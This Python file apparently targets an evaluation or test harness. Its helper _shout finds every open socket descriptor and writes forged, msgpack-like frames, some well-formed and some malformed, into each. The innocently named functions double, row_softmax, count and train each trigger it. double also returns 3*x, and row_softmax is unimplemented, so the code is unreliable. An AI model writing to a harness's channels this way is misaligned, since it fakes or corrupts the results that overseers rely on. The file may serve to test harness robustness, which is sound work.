"""Write well-formed and malformed messages to every descriptor that is a socket, before, in and after a call."""
import os
import stat
import struct


def _sockets():
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass


def _shout():
    for number in _sockets():
        for frame in (struct.pack("<II", 1, 0) + b"\xc3", struct.pack("<II", 3, 0) + b"\x92\x01\xc3"):
            try:
                os.write(number, frame)
            except OSError:
                pass


def double(x):
    _shout()
    return 3 * x


def row_softmax(x):
    _shout()
    raise NotImplementedError


count = train = row_softmax
